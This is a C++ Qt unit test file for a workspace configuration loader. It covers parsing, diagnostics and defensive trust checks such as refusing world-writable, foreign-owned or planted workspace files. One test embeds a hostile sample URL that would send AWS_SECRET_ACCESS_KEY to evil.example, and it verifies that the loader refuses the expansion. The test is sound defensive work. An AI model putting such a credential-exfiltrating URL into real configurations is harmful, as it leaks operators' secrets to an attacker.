// SPDX-License-Identifier: GPL-3.0-or-later
#include "flags/flagstate.h"
#include "metrics/dashboards.h"
#include "testservices.h"
#include "workspace/expansion.h"
#include "workspace/workspaceloader.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

#include <pwd.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace Opsdeck;

namespace {

QString relative(QString text, const QString &workspaceDir)
{
    return text.replace(workspaceDir, QStringLiteral("<ws>"))
        .replace(QDir::homePath(), QStringLiteral("~"));
}

/** A stable text form of everything the loader produced, compared with cases/<name>/expected.txt.
 */
QString describe(const WorkspaceLoadResult &result, const QString &file)
{
    QStringList lines;
    for (const Diagnostic &d : result.diagnostics) {
        Diagnostic copy = d;
        copy.file = QFileInfo(file).fileName();
        lines << copy.toString();
    }
    if (!result.ok())
        return lines.join(QLatin1Char('\n'));
    const Workspace &ws = *result.workspace;
    const QString dir = ws.directory;
    lines << QStringLiteral("ok") << QStringLiteral("name ") + ws.name;
    lines << QStringLiteral("ssh user=%1 known_hosts=%2 identity=%3 port=%4 keepalive=%5")
                 .arg(ws.ssh.user, relative(ws.ssh.knownHosts, dir), relative(ws.ssh.identity, dir))
                 .arg(ws.ssh.port)
                 .arg(ws.ssh.keepaliveSeconds);
    for (const HostSpec &h : ws.hosts)
        lines << QStringLiteral("host %1 address=%2 port=%3 user=%4 jump=%5 at %6:%7")
                     .arg(h.name, h.address)
                     .arg(h.port)
                     .arg(h.user, h.jump)
                     .arg(h.position.line)
                     .arg(h.position.column);
    for (const EnvironmentSpec &e : ws.environments) {
        lines << QStringLiteral("env %1 protected=%2 hosts=%3")
                     .arg(e.name, e.isProtected ? QStringLiteral("true") : QStringLiteral("false"),
                          e.hosts.join(QLatin1Char(',')));
        if (e.database)
            lines << QStringLiteral("  database conninfo=%1 tunnel=%2")
                         .arg(e.database->conninfo, e.database->tunnel);
        if (e.prometheus)
            lines << QStringLiteral("  prometheus url=%1 tunnel=%2")
                         .arg(e.prometheus->url, e.prometheus->tunnel);
        if (e.prometheus &&
            !QString(e.prometheus->caFile + e.prometheus->certFile + e.prometheus->serverName)
                 .isEmpty())
            lines << QStringLiteral("    tls ca=%1 cert=%2 key=%3 server_name=%4")
                         .arg(relative(e.prometheus->caFile, dir),
                              relative(e.prometheus->certFile, dir),
                              relative(e.prometheus->keyFile, dir), e.prometheus->serverName);
        if (!e.secrets.isEmpty())
            lines << QStringLiteral("  secrets=") + relative(e.secrets.join(QLatin1Char('|')), dir);
        if (!e.config.isEmpty()) {
            QStringList files;
            for (const ConfigFileSpec &c : e.config)
                files << (c.afterSave.isEmpty()
                              ? c.location
                              : c.location + QStringLiteral(" after_save=") + c.afterSave);
            lines << QStringLiteral("  config=") + relative(files.join(QLatin1Char('|')), dir);
        }
        if (!e.flags.isEmpty())
            lines << QStringLiteral("  flags backend=") +
                         e.flags.value(QStringLiteral("backend")).toString();
        if (const std::optional<DeploySpec> &d = e.deploy) {
            lines << QStringLiteral(
                         "  deploy path=%1 repo=%2 keep=%3 shared=%4 lock=%5 max_fail=%6")
                         .arg(d->path, d->repo)
                         .arg(d->keep)
                         .arg(d->shared.join(QLatin1Char('|')), d->lockHost)
                         .arg(d->maxFail);
            lines << QStringLiteral("    build=") + d->build.join(QLatin1Char('|'));
            lines << QStringLiteral("    release=") + d->release.join(QLatin1Char('|'));
            lines << QStringLiteral("    restart=") + d->restart;
            lines << QStringLiteral("    batches=") + d->batches.join(QLatin1Char('|'));
            if (d->healthcheck)
                lines << QStringLiteral("    health url=%1 run=%2 interval=%3 timeout=%4 budget=%5")
                             .arg(d->healthcheck->url, d->healthcheck->run)
                             .arg(d->healthcheck->intervalMs)
                             .arg(d->healthcheck->timeoutMs)
                             .arg(d->healthcheck->budgetMs);
        }
    }
    for (const DashboardSpec &d : ws.dashboards) {
        QStringList panels;
        for (const PanelSpec &p : d.panels)
            panels << QStringLiteral("%1/%2/%3").arg(p.title, p.source, p.unit);
        lines
            << QStringLiteral("dashboard %1 panels=%2").arg(d.name, panels.join(QLatin1Char(',')));
    }
    return lines.join(QLatin1Char('\n'));
}

} // namespace

class TestWorkspaceLoader final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        qputenv("OPSDECK_TEST_HOST", "db.example.test");
        qunsetenv("OPSDECK_TEST_UNSET_VARIABLE");
        qunsetenv("OPSDECK_WORKSPACE");
    }

    void goldenCases_data()
    {
        QTest::addColumn<QString>("directory");
        const QDir cases(TestServices::dataDir() + QStringLiteral("/core/workspace/cases"));
        const QStringList names = cases.entryList(QDir::Dirs | QDir::NoDotAndDotDot);
        QVERIFY2(names.size() >= 10, "the golden cases are missing");
        for (const QString &name : names)
            QTest::addRow("%s", qPrintable(name)) << cases.filePath(name);
    }

    void goldenCases()
    {
        QFETCH(QString, directory);
        const QString file = directory + QStringLiteral("/opsdeck.yaml");
        QFile expectedFile(directory + QStringLiteral("/expected.txt"));
        QVERIFY2(expectedFile.open(QIODevice::ReadOnly), qPrintable(expectedFile.fileName()));
        const QString expected = QString::fromUtf8(expectedFile.readAll()).trimmed();
        const QString actual = describe(WorkspaceLoader::loadFile(file), file);
        if (actual != expected)
            qWarning().noquote() << "\n--- actual ---\n"
                                 << actual << "\n--- expected ---\n"
                                 << expected;
        QCOMPARE(actual, expected);
    }

    void sshConfigFileIsResolvedAgainstTheWorkspace()
    {
        const WorkspaceLoadResult r =
            WorkspaceLoader::loadText("version: 1\nssh: { config_file: infra/ssh_config, "
                                      "use_ssh_config: yes }\nenvironments: {e: {}}\n",
                                      QStringLiteral("/srv/repo/opsdeck.yaml"));
        QVERIFY(r.ok());
        QCOMPARE(r.workspace->ssh.configFile, QStringLiteral("/srv/repo/infra/ssh_config"));
        QVERIFY(r.workspace->ssh.useSshConfig);
    }

    void aPanelCopiedAsYamlReadsBackUnchanged()
    {
        // What "Add to dashboard" puts on the clipboard, pasted under a dashboard's panels:.
        PanelSpec panel;
        panel.title = QStringLiteral("Query: rate(x{job=\"a\"}[5m]) # \\ 'q'");
        panel.source = QStringLiteral("prometheus");
        panel.query =
            QStringLiteral("sum by (code) (rate(http{path=~\"/a|/b\", q='x'}[5m])) # : {");
        const QString line = panelYaml(panel);
        QVERIFY2(line.startsWith(QStringLiteral("      - {")) && line.endsWith(QLatin1Char('\n')),
                 qPrintable(line));
        const WorkspaceLoadResult r = WorkspaceLoader::loadText(
            "version: 1\ndashboards:\n  - name: Mine\n    panels:\n" + line.toUtf8(),
            QStringLiteral("/tmp/x/opsdeck.yaml"));
        QVERIFY2(r.ok(), qPrintable(r.diagnostics.value(0).toString()));
        const DashboardSpec &mine = r.workspace->dashboards.constLast();
        QCOMPARE(mine.name, QStringLiteral("Mine"));
        QCOMPARE(mine.panels.size(), 1);
        QCOMPARE(mine.panels[0].title, panel.title);
        QCOMPARE(mine.panels[0].query, panel.query);
        QCOMPARE(mine.panels[0].source, panel.source);
    }

    void replicasAreListedUnderTheDatabase()
    {
        const QByteArray text =
            "version: 1\nhosts:\n  bastion: {address: 10.0.0.1}\n  db2: {address: 10.0.0.2}\n"
            "environments:\n  production:\n    database:\n"
            "      conninfo: \"host=10.0.1.1 dbname=app\"\n      tunnel: bastion\n"
            "      thresholds: {long_running: {warn_seconds: 30}}\n"
            "      replicas:\n"
            "        - {name: standby1, conninfo: \"host=10.0.1.2 dbname=app\"}\n"
            "        - {name: standby2, conninfo: \"host=10.0.1.3 dbname=app\", tunnel: db2}\n";
        const WorkspaceLoadResult r =
            WorkspaceLoader::loadText(text, QStringLiteral("/tmp/x/opsdeck.yaml"));
        QVERIFY2(r.ok(), qPrintable(r.diagnostics.value(0).toString()));
        const DatabaseSpec &db = *r.workspace->environment(QStringLiteral("production"))->database;
        QCOMPARE(db.replicas.size(), 2);
        QCOMPARE(db.replicas[0].name, QStringLiteral("standby1"));
        QCOMPARE(db.replicas[0].tunnel, QStringLiteral("bastion")); // the primary's, by default
        QCOMPARE(db.replicas[1].tunnel, QStringLiteral("db2"));
        const DatabaseSpec replica = db.replica(db.replicas[1]);
        QCOMPARE(replica.conninfo, QStringLiteral("host=10.0.1.3 dbname=app"));
        QCOMPARE(replica.tunnel, QStringLiteral("db2"));
        QCOMPARE(replica.thresholds, db.thresholds); // one set of limits for the environment
        QVERIFY(replica.replicas.isEmpty());
    }

    void aFlagWriteTimeoutIsADuration()
    {
        const QByteArray head = "version: 1\nhosts:\n  web1: {address: 10.0.0.1}\n"
                                "environments:\n  staging:\n    hosts: [web1]\n    flags:\n"
                                "      manage: ./manage.py\n";
        const WorkspaceLoadResult good = WorkspaceLoader::loadText(
            head + "      manage_timeout: 2m\n", QStringLiteral("/tmp/x/opsdeck.yaml"));
        QVERIFY2(good.ok(), qPrintable(good.diagnostics.value(0).toString()));
        const EnvironmentSpec *staging = good.workspace->environment(QStringLiteral("staging"));
        QCOMPARE(FlagsSpec::fromWorkspace(staging->flags)->manageTimeoutMs, 120000);
        const WorkspaceLoadResult unset =
            WorkspaceLoader::loadText(head, QStringLiteral("/tmp/x/opsdeck.yaml"));
        QCOMPARE(
            FlagsSpec::fromWorkspace(unset.workspace->environment(QStringLiteral("staging"))->flags)
                ->manageTimeoutMs,
            60000);
        const WorkspaceLoadResult bad = WorkspaceLoader::loadText(
            head + "      manage_timeout: soon\n", QStringLiteral("/tmp/x/opsdeck.yaml"));
        QVERIFY(!bad.ok());
        QCOMPARE(bad.diagnostics.value(0).toString(),
                 QStringLiteral("/tmp/x/opsdeck.yaml:9:23: error: "
                                "environments.staging.flags.manage_timeout: expected a duration "
                                "such as 500ms, 5s or 2m, got 'soon'"));
    }

    void badReplicasSayWhereAndWhy_data()
    {
        QTest::addColumn<QByteArray>("replicas");
        QTest::addColumn<QString>("error");
        QTest::newRow("not a list")
            << QByteArray("replicas: {name: s}")
            << QStringLiteral("8:17: error: environments.production.database."
                              "replicas: a list of standbys");
        QTest::newRow("no conninfo")
            << QByteArray("replicas: [{name: s}]")
            << QStringLiteral("replicas[0]: a replica needs name: and conninfo:");
        QTest::newRow("unknown tunnel")
            << QByteArray("replicas: [{name: s, conninfo: x, tunnel: nowhere}]")
            << QStringLiteral("replicas[0].tunnel: unknown host 'nowhere'");
        QTest::newRow("twice") << QByteArray("replicas: [{name: s, conninfo: x}, {name: s, "
                                             "conninfo: y}]")
                               << QStringLiteral("replicas[1].name: 's' is listed twice");
        QTest::newRow("bad name") << QByteArray("replicas: [{name: \"a b\", conninfo: x}]")
                                  << QStringLiteral("'a b': use letters, digits");
    }

    void badReplicasSayWhereAndWhy()
    {
        QFETCH(QByteArray, replicas);
        QFETCH(QString, error);
        const QByteArray text = "version: 1\nhosts:\n  bastion: {address: 10.0.0.1}\n"
                                "environments:\n  production:\n    database:\n"
                                "      conninfo: \"host=10.0.1.1 dbname=app\"\n      " +
                                replicas + "\n";
        const WorkspaceLoadResult r =
            WorkspaceLoader::loadText(text, QStringLiteral("/tmp/x/opsdeck.yaml"));
        QVERIFY(!r.ok());
        QStringList messages;
        for (const Diagnostic &d : r.diagnostics)
            messages << d.toString();
        QVERIFY2(messages.join(QLatin1Char('\n')).contains(error),
                 qPrintable(messages.join(QLatin1Char('\n'))));
    }

    void missingFileIsAnErrorNotACrash()
    {
        const WorkspaceLoadResult r =
            WorkspaceLoader::loadFile(QStringLiteral("/nonexistent/opsdeck.yaml"));
        QVERIFY(!r.ok());
        QCOMPARE(r.diagnostics.size(), 1);
        QVERIFY(r.diagnostics.first().message.startsWith(QStringLiteral("cannot open workspace")));
    }

    void garbageNeverCrashes_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::newRow("tabs") << QByteArray("version: 1\n\thosts: x\n");
        QTest::newRow("binary") << QByteArray("\x00\x01\xff\xfe", 4);
        QTest::newRow("alias loop") << QByteArray("a: &x [*x]\n");
        QTest::newRow("list at top") << QByteArray("- 1\n- 2\n");
        QTest::newRow("scalar hosts") << QByteArray("hosts: 3\nenvironments: 4\n");
        QTest::newRow("null host")
            << QByteArray("hosts:\n  web1:\nenvironments:\n  e: {hosts: [web1]}\n");
        QTest::newRow("deep") << QByteArray(2000, '[');
    }

    void garbageNeverCrashes()
    {
        QFETCH(QByteArray, text);
        const WorkspaceLoadResult r =
            WorkspaceLoader::loadText(text, QStringLiteral("/tmp/x/opsdeck.yaml"));
        // Whatever happens, it must be reported, and reported with a position.
        if (!r.ok()) {
            QVERIFY(!r.diagnostics.isEmpty());
            for (const Diagnostic &d : r.diagnostics)
                QVERIFY2(d.line > 0, qPrintable(d.toString()));
        }
    }

    void expansionRules()
    {
        QStringList unset;
        qputenv("OPSDECK_X", "value");
        QCOMPARE(expandVariables(QStringLiteral("a${OPSDECK_X}b"), &unset),
                 QStringLiteral("avalueb"));
        QCOMPARE(expandVariables(QStringLiteral("~/x")), QDir::homePath() + QStringLiteral("/x"));
        QCOMPARE(expandVariables(QStringLiteral("a~b")), QStringLiteral("a~b"));
        QCOMPARE(expandVariables(QStringLiteral("$$HOME $HOME")), QStringLiteral("$HOME $HOME"));
        QCOMPARE(expandVariables(QStringLiteral("${OPSDECK_NOPE_NOT_SET_1}x"), &unset),
                 QStringLiteral("x"));
        QCOMPARE(unset, QStringList{QStringLiteral("OPSDECK_NOPE_NOT_SET_1")});
        // Only OPSDECK_* and HOME, USER, LOGNAME are read; anything else stays as written.
        qputenv("AWS_SECRET_ACCESS_KEY", "s3cr3t");
        QStringList refused;
        QCOMPARE(
            expandVariables(QStringLiteral("u=${AWS_SECRET_ACCESS_KEY}"), &unset, {}, &refused),
            QStringLiteral("u=${AWS_SECRET_ACCESS_KEY}"));
        QCOMPARE(refused, QStringList{QStringLiteral("AWS_SECRET_ACCESS_KEY")});
        QCOMPARE(expandVariables(QStringLiteral("${HOME}")), QDir::homePath());
        QCOMPARE(expandPath(QStringLiteral("keys/id"), QStringLiteral("/srv/infra")),
                 QStringLiteral("/srv/infra/keys/id"));
        QCOMPARE(expandPath(QStringLiteral("/abs"), QStringLiteral("/srv/infra")),
                 QStringLiteral("/abs"));
    }

    void workspaceCannotReadOtherEnvironmentVariables()
    {
        // A hostile workspace would carry the operator's tokens to a server it names.
        qputenv("AWS_SECRET_ACCESS_KEY", "s3cr3t");
        const WorkspaceLoadResult r = WorkspaceLoader::loadText(
            "version: 1\nname: x\nenvironments:\n  staging:\n    prometheus:\n"
            "      url: \"http://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\"\n"
            "    deploy:\n      path: /srv/app\n      repo: /srv/git/app.git\n"
            "      restart: \"echo ${APP_PORT}\"\n",
            QStringLiteral("/ws/opsdeck.yaml"));
        QVERIFY(!r.ok());
        bool named = false;
        for (const Diagnostic &d : r.diagnostics) {
            QVERIFY2(!d.message.contains(QLatin1String("s3cr3t")), qPrintable(d.toString()));
            if (d.severity == Diagnostic::Severity::Error && d.line == 6 &&
                d.message.contains(QLatin1String("${AWS_SECRET_ACCESS_KEY}")))
                named = true;
            // In a remote command ${NAME} is the host shell's business: not an error.
            QVERIFY2(!d.message.contains(QLatin1String("APP_PORT")), qPrintable(d.toString()));
        }
        QVERIFY(named);
    }

    void untrustedWorkspaceIsRefused_data()
    {
        QTest::addColumn<QString>("owner");
        QTest::addColumn<int>("mode");
        QTest::addColumn<QString>("expected");
        QTest::newRow("another user's") << u"nobody"_qs << 0644 << u"owned by nobody"_qs;
        QTest::newRow("group-writable") << QString() << 0664 << u"chmod go-w"_qs;
        QTest::newRow("world-writable") << QString() << 0646 << u"changed by anyone"_qs;
    }

    void untrustedWorkspaceIsRefused()
    {
        QFETCH(QString, owner);
        QFETCH(int, mode);
        QFETCH(QString, expected);
        if (!owner.isEmpty() && ::geteuid() != 0)
            QSKIP("giving a file to another user needs root");
        QTemporaryDir dir;
        const QString file = dir.filePath(QStringLiteral("opsdeck.yaml"));
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("version: 1\nname: planted\n");
        f.close();
        QVERIFY(::chmod(QFile::encodeName(file).constData(), mode_t(mode)) == 0);
        if (!owner.isEmpty()) {
            const passwd *pw = ::getpwnam(owner.toLatin1().constData());
            QVERIFY(pw);
            QVERIFY(::chown(QFile::encodeName(file).constData(), pw->pw_uid, pw->pw_gid) == 0);
        }
        const WorkspaceLoadResult r = WorkspaceLoader::loadFile(file);
        QVERIFY(!r.ok());
        QCOMPARE(r.diagnostics.size(), 1);
        QVERIFY2(r.diagnostics.first().message.contains(expected),
                 qPrintable(r.diagnostics.first().toString()));
        QVERIFY(r.diagnostics.first().message.contains(file));
    }

    void untrustedNamedFileIsRefusedAtItsKey()
    {
        QTemporaryDir dir;
        const QString config = dir.filePath(QStringLiteral("ssh_config"));
        QFile c(config);
        QVERIFY(c.open(QIODevice::WriteOnly));
        c.close();
        QVERIFY(::chmod(QFile::encodeName(config).constData(), 0666) == 0);
        const QString file = dir.filePath(QStringLiteral("opsdeck.yaml"));
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write("version: 1\nname: x\nssh:\n  config_file: ssh_config\n");
        f.close();
        const WorkspaceLoadResult r = WorkspaceLoader::loadFile(file);
        QVERIFY(!r.ok());
        QCOMPARE(r.diagnostics.first().line, 4);
        QVERIFY2(r.diagnostics.first().message.contains(config),
                 qPrintable(r.diagnostics.first().toString()));
        QVERIFY(::chmod(QFile::encodeName(config).constData(), 0600) == 0);
        QVERIFY2(WorkspaceLoader::loadFile(file).ok(), "a file only you can write is trusted");
    }

    void searchStopsAtHome()
    {
        // A planted opsdeck.yaml above the home directory (/home, /tmp, /) is never picked up.
        QTemporaryDir dir;
        QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("home/me/project")));
        QFile planted(dir.filePath(QStringLiteral("home/opsdeck.yaml")));
        QVERIFY(planted.open(QIODevice::WriteOnly));
        planted.close();
        const QByteArray previousHome = qgetenv("HOME");
        qputenv("HOME", QFile::encodeName(dir.filePath(QStringLiteral("home/me"))));
        qunsetenv("OPSDECK_WORKSPACE");
        const QString found = locateWorkspace({}, dir.filePath(QStringLiteral("home/me/project")));
        qputenv("HOME", previousHome);
        QCOMPARE(found, QString());
    }

    void locatesWorkspaceLikeGit()
    {
        QTemporaryDir dir;
        QVERIFY(QDir(dir.path()).mkpath(QStringLiteral("a/b/c")));
        const QString file = dir.filePath(QStringLiteral("a/opsdeck.yaml"));
        QFile f(file);
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.close();
        qunsetenv("OPSDECK_WORKSPACE");
        QCOMPARE(locateWorkspace({}, dir.filePath(QStringLiteral("a/b/c"))), file);
        QCOMPARE(locateWorkspace({}, dir.path()), QString());
        QCOMPARE(locateWorkspace(QStringLiteral("/x/y.yaml"), dir.path()),
                 QStringLiteral("/x/y.yaml"));
        qputenv("OPSDECK_WORKSPACE", "/from/env.yaml");
        QCOMPARE(locateWorkspace({}, dir.filePath(QStringLiteral("a/b"))),
                 QStringLiteral("/from/env.yaml"));
        qunsetenv("OPSDECK_WORKSPACE");
    }
};

QTEST_GUILESS_MAIN(TestWorkspaceLoader)
#include "tst_workspaceloader.moc"
